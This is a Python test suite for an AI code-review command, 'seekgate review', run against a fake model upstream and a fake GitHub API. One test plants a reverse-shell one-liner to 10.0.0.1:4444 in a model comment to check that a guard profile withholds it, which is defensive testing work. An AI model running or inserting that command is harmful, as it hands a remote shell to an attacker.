"""`seekgate review` end to end: the real command, the real gateway in-process, on a fixture
repository; with the embedded model, and with a scripted OpenAI-compatible upstream for the
cases a real model will not produce on demand (comments off the diff, a prompt too long)."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from aiohttp import web

from seekgate.review.diff import parse_diff
from tests.fixtures.review_repo import make_review_repo
from tests.fixtures.servers import serve_app


def review(workdir: Path, *args: str, config: str | None = None, stdin: str | None = None, env: dict[str, str] | None = None):
    outer = {k: v for k, v in os.environ.items() if not k.startswith("GITHUB_")}  # when the tests run in Actions
    full_env = {**outer, "SEEKGATE_SERVER__DATA_DIR": str(workdir / "data"), **(env or {})}
    cmd = [sys.executable, "-m", "seekgate.cli.main"]
    if config is not None:
        (workdir / "seekgate.toml").write_text(config)
        cmd += ["--config", str(workdir / "seekgate.toml")]
    return subprocess.run([*cmd, "review", *args], check=False, capture_output=True, text=True, input=stdin, env=full_env, timeout=900)


def shown_lines(repo: Path) -> dict[str, frozenset[int]]:
    diff = subprocess.run(["git", "-C", str(repo), "diff", "main...HEAD"], capture_output=True, text=True, check=True).stdout
    return {f.path: f.shown for f in parse_diff(diff)}


@pytest.fixture(scope="module")
def repo(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return make_review_repo(tmp_path_factory.mktemp("review") / "shop")


SKIPPED = {
    "logo.png": "binary",
    "notes.txt": "deleted",
    "package-lock.json": "excluded by review.exclude",
    "shop/util.py": "renamed from shop/helpers.py, content unchanged",
}


def test_a_branch_reviewed_by_the_embedded_model_names_only_diff_lines_and_ruff_gates(repo: Path, tmp_path: Path):
    run = review(tmp_path, "--base", "main", "--repo", str(repo), "--format", "json")
    assert run.returncode == 1, run.stderr  # ruff: the unused `json` import is on an added line
    data = json.loads(run.stdout)
    shown = shown_lines(repo)
    assert all(c["line"] in shown[c["path"]] for c in data["comments"]), data["comments"]
    assert data["skipped"] == SKIPPED and data["failures"] == []
    assert data["stats"]["models"] == ["smollm2-135m"] and data["stats"]["files"] == 2 and data["stats"]["calls"] >= 1
    findings = {(f["path"], f["line"], f["code"], f["in_diff"]) for f in data["lint"]["findings"]}
    assert findings == {("shop/prices.py", 1, "F401", True), ("shop/legacy.py", 1, "F401", False)}
    assert "1 linter finding on changed lines (review.fail_on_lint)" in data["reasons"]

    # the same review again comes from the gateway's cache (ci is cacheable; the review asks at temperature 0)
    again = json.loads(review(tmp_path, "--base", "main", "--repo", str(repo), "--format", "json").stdout)
    assert again["stats"]["cached"] == again["stats"]["calls"] and again["comments"] == data["comments"]

    markdown = review(tmp_path, "--base", "main", "--repo", str(repo), "--no-lint").stdout
    assert markdown.startswith("## seekgate review\n") and "- `logo.png`: binary" in markdown and "Linters" not in markdown


class ScriptedReviewer:
    """An OpenAI-compatible upstream that answers a review call with comments placed relative to
    the lines the prompt shows: one on the first shown line of each file (error), one two lines
    past the last shown line of each file (to be moved back onto the diff), one on line 9999 and
    one on a file the diff does not have (both to be dropped). Prompts over `limit` characters are
    refused the way vLLM refuses a prompt longer than the model's context."""

    def __init__(self, limit: int = 1_000_000) -> None:
        self.limit = limit
        self.body = ""
        """When set, every comment's body."""
        self.busy = 0
        """Answer this many next requests with 429 and Retry-After: 0, as a rate-limited server does."""
        self.requests: list[dict] = []

    async def handle(self, request: web.Request) -> web.Response:
        body = await request.json()
        self.requests.append(body)
        if self.busy:
            self.busy -= 1
            return web.json_response({"error": {"message": "slow down"}}, status=429, headers={"Retry-After": "0"})
        prompt = body["messages"][-1]["content"]
        if len(prompt) > self.limit:
            message = f"This model's maximum context length is {self.limit // 3} tokens. However, you requested more."
            return web.json_response({"error": {"message": message, "type": "BadRequestError", "code": 400}}, status=400)
        shown: dict[str, list[int]] = {}
        for path, block in re.findall(r"^File: (\S+)[^\n]*\n(.*?)(?=^File: |\Z)", prompt, re.MULTILINE | re.DOTALL):
            shown.setdefault(path, []).extend(int(n) for n in re.findall(r"^\s*(\d+) [+ ] ", block, re.MULTILINE))
        comments = []
        for path, numbers in shown.items():
            if numbers:
                comments.append({"path": path, "line": min(numbers), "severity": "error", "body": self.body or f"First line of {path}."})
                comments.append({"path": path, "line": max(numbers) + 2, "severity": "warning", "body": f"Just past {path}."})
                comments.append({"path": path, "line": 9999, "severity": "error", "body": "Far away."})
        comments.append({"path": "nope.py", "line": 1, "severity": "error", "body": "No such file."})
        content = json.dumps({"comments": comments})
        return web.json_response({
            "id": "x", "object": "chat.completion", "created": 0, "model": body["model"],
            "choices": [{"index": 0, "message": {"role": "assistant", "content": content}, "finish_reason": "stop"}],
            "usage": {"prompt_tokens": 10, "completion_tokens": 10, "total_tokens": 20},
        })  # fmt: skip


@pytest.fixture
def reviewer() -> Iterator[tuple[ScriptedReviewer, str]]:
    scripted = ScriptedReviewer()
    app = web.Application()
    app.router.add_post("/v1/chat/completions", scripted.handle)
    with serve_app(app) as root:
        yield scripted, root


def scripted_config(root: str, extra: str = "") -> str:
    return f"""
[backends.scripted]
type = "openai"
base_url = "{root}/v1"

[models.scripted-reviewer]
backend = "scripted"
upstream_model = "reviewer-1"

[tasks.ci]
route = ["scripted-reviewer"]
cacheable = false
{extra}"""


def test_comments_off_the_diff_are_moved_or_dropped_and_counted(repo: Path, tmp_path: Path, reviewer):
    scripted, root = reviewer
    run = review(tmp_path, "--base", "main", "--repo", str(repo), "--format", "json", "--no-lint", config=scripted_config(root))
    assert run.returncode == 1, run.stderr  # error comments, review.fail_on = error
    data = json.loads(run.stdout)
    shown = shown_lines(repo)
    got = [(c["path"], c["line"], c["severity"], c["reanchored_from"]) for c in data["comments"]]
    last = {path: max(lines) for path, lines in shown.items() if lines}
    assert got == [
        ("shop/legacy.py", min(shown["shop/legacy.py"]), "error", None),
        ("shop/prices.py", min(shown["shop/prices.py"]), "error", None),
        ("shop/legacy.py", last["shop/legacy.py"], "warning", last["shop/legacy.py"] + 2),
        ("shop/prices.py", last["shop/prices.py"], "warning", last["shop/prices.py"] + 2),
    ]  # errors first, then in the order the model wrote them
    assert data["stats"]["reanchored"] == 2 and data["stats"]["proposed"] == 7
    assert data["stats"]["dropped"] == {"line outside the diff": 2, "unknown file": 1}
    # what the model was sent: the ci@v2 pack as system message, and the schema of the answer
    (sent,) = scripted.requests
    assert sent["messages"][0]["role"] == "system" and '{"comments": []}' in sent["messages"][0]["content"]
    assert sent["response_format"]["type"] == "json_schema" and sent["temperature"] == 0

    with_window_zero = review(
        tmp_path, "--base", "main", "--repo", str(repo), "--format", "json", "--no-lint",
        config=scripted_config(root, "[review]\nreanchor_lines = 0\n"),
    )  # fmt: skip
    zero = json.loads(with_window_zero.stdout)
    assert zero["stats"]["reanchored"] == 0 and zero["stats"]["dropped"]["line outside the diff"] == 4


def test_a_small_budget_spreads_the_diff_over_calls_and_a_refused_call_is_halved(repo: Path, tmp_path: Path, reviewer):
    scripted, root = reviewer
    one = json.loads(review(tmp_path, "--base", "main", "--repo", str(repo), "--format", "json", "--no-lint", config=scripted_config(root)).stdout)
    assert one["stats"]["calls"] == 1
    scripted.requests.clear()
    scripted.limit = 700  # refuse any prompt over 700 characters
    run = review(tmp_path, "--base", "main", "--repo", str(repo), "--format", "json", "--no-lint", config=scripted_config(root))
    data = json.loads(run.stdout)
    assert data["stats"]["calls"] > 1 and data["failures"] == []
    assert len(scripted.requests) == data["stats"]["calls"]
    assert all(len(r["messages"][-1]["content"]) <= 700 for r in scripted.requests[-2:])
    assert {c["path"] for c in data["comments"]} == {"shop/prices.py", "shop/legacy.py"}


def test_a_rate_limited_call_is_asked_again_after_retry_after(repo: Path, tmp_path: Path, reviewer):
    scripted, root = reviewer
    scripted.busy = 2
    run = review(tmp_path, "--base", "main", "--repo", str(repo), "--format", "json", "--no-lint", config=scripted_config(root))
    data = json.loads(run.stdout)
    assert data["failures"] == [] and len(data["comments"]) == 4 and len(scripted.requests) == 3 and scripted.busy == 0


def test_a_comment_quoting_a_dangerous_command_passes_the_review_guard_profile_but_not_the_default(repo: Path, tmp_path: Path, reviewer):
    scripted, root = reviewer
    scripted.body = "This opens a reverse shell: bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 must go."
    args = ("--base", "main", "--repo", str(repo), "--format", "json", "--no-lint")
    kept = json.loads(review(tmp_path, *args, config=scripted_config(root)).stdout)
    assert kept["failures"] == [] and any("/dev/tcp/10.0.0.1/4444" in c["body"] for c in kept["comments"])
    blocked = review(tmp_path, *args, config=scripted_config(root, 'guard_profile = "default"\n'))
    data = json.loads(blocked.stdout)
    assert blocked.returncode == 3 and "withheld the answer" in data["failures"][0] and data["comments"] == []


def test_an_unreachable_gateway_is_incomplete_and_bad_input_is_a_usage_error(repo: Path, tmp_path: Path):
    down = review(tmp_path, "--base", "main", "--repo", str(repo), "--no-lint", "--gateway", "http://127.0.0.1:9", "--format", "json")
    assert down.returncode == 3, down.stderr
    data = json.loads(down.stdout)
    assert data["result"] == "incomplete" and "cannot reach the gateway at http://127.0.0.1:9" in data["failures"][0]

    prose = review(tmp_path, "-", stdin="this is not a diff\n")
    assert prose.returncode == 2 and "no file diff" in prose.stderr and prose.stdout == ""
    nothing = review(tmp_path, stdin="")  # no diff named: not read from stdin as an empty one
    assert nothing.returncode == 2 and "no diff: give --base REF" in nothing.stderr
    bad_ref = review(tmp_path, "--base", "no-such-branch", "--repo", str(repo))
    assert bad_ref.returncode == 2 and "no-such-branch" in bad_ref.stderr
    no_token = review(tmp_path, "--github", "--pr", "1", "--github-repo", "o/r", env={"GITHUB_TOKEN": ""})
    assert no_token.returncode == 2 and "needs a token" in no_token.stderr
    bad_config = review(tmp_path, "-", stdin="", config="[review]\nfail_on = \"sometimes\"\n")
    assert bad_config.returncode == 2 and "review.fail_on" in bad_config.stderr


def test_linters_only_needs_no_model(repo: Path, tmp_path: Path):
    run = review(tmp_path, "--base", "main", "--repo", str(repo), "--no-model", "--format", "json", "--gateway", "http://127.0.0.1:9")
    data = json.loads(run.stdout)
    assert run.returncode == 1 and data["stats"]["calls"] == 0 and data["comments"] == []
    assert [f["code"] for f in data["lint"]["findings"] if f["in_diff"]] == ["F401"]


def test_posting_to_a_pull_request_makes_one_review_and_a_rerun_updates_it(repo: Path, tmp_path: Path, reviewer):
    from tests.fixtures.fake_github import FakeGitHub, fake_github

    _, root = reviewer
    diff = subprocess.run(["git", "-C", str(repo), "diff", "main...HEAD"], capture_output=True, text=True, check=True).stdout
    fake = FakeGitHub(repository="octo/shop")
    pull = fake.add_pull(7, diff)
    event = tmp_path / "event.json"
    event.write_text(json.dumps({"action": "synchronize", "pull_request": {"number": 7}}))
    env = {
        "GITHUB_TOKEN": fake.token, "GITHUB_REPOSITORY": "octo/shop", "GITHUB_EVENT_PATH": str(event),
        "GITHUB_STEP_SUMMARY": str(tmp_path / "summary.md"),
    }  # fmt: skip
    with fake_github(fake) as gh:
        env["GITHUB_API_URL"] = gh.base_url
        # no diff argument: the pull request's own diff, from the API
        first = review(tmp_path, "--github", "--repo", str(repo), "--format", "json", config=scripted_config(root), env=env)
        assert first.returncode == 1, first.stderr  # error comments and ruff's finding; posting worked
        data = json.loads(first.stdout)
        assert data["github"]["created"] is True and data["github"]["posted"] == len(data["comments"]) == 4
        (post,) = gh.calls("POST", "/pulls/7/reviews")
        assert post.json["commit_id"] == pull.head_sha and post.json["event"] == "COMMENT"
        assert {(c["path"], c["line"], c["side"]) for c in post.json["comments"]} == {(c["path"], c["line"], "RIGHT") for c in data["comments"]}
        assert "<!-- seekgate-review -->" in post.json["body"] and "**ruff**: 1 finding on changed lines" in post.json["body"]
        assert "### shop/prices.py" not in post.json["body"]  # the comments are inline, not repeated in the summary
        assert "posted" in first.stderr and gh.pulls[7].reviews[0]["html_url"] in first.stderr
        assert (tmp_path / "summary.md").read_text().startswith("## seekgate review\n")  # the job's summary page

        again = review(tmp_path, "--github", "--repo", str(repo), "--format", "json", config=scripted_config(root), env=env)
        redo = json.loads(again.stdout)["github"]
        assert (redo["created"], redo["posted"], redo["kept"], redo["deleted"]) == (False, 0, 4, 0)
        assert len(gh.calls("POST", "/pulls/7/reviews")) == 1 and len(gh.calls("PUT")) == 1
        assert len(gh.pulls[7].reviews) == 1 and len(gh.pulls[7].comments) == 4

        # a local diff that does not end at the pull request's head: posted, with a warning
        local = review(tmp_path, "--github", "--base", "main", "--repo", str(repo), "--format", "json", config=scripted_config(root), env=env)
        assert "is not the pull request's head" in local.stderr and json.loads(local.stdout)["github"]["posted"] == 0

        fake.fail_next(5, 502, method="PUT")
        broken = review(tmp_path, "--github", "--repo", str(repo), "--no-lint", "--fail-on", "never", "--format", "json",
                        config=scripted_config(root), env=env)  # fmt: skip
        assert broken.returncode == 3 and "posting to GitHub failed" in broken.stderr
        assert json.loads(broken.stdout)["reasons"][0].startswith("GitHub: PUT /repos/octo/shop/pulls/7/reviews/")
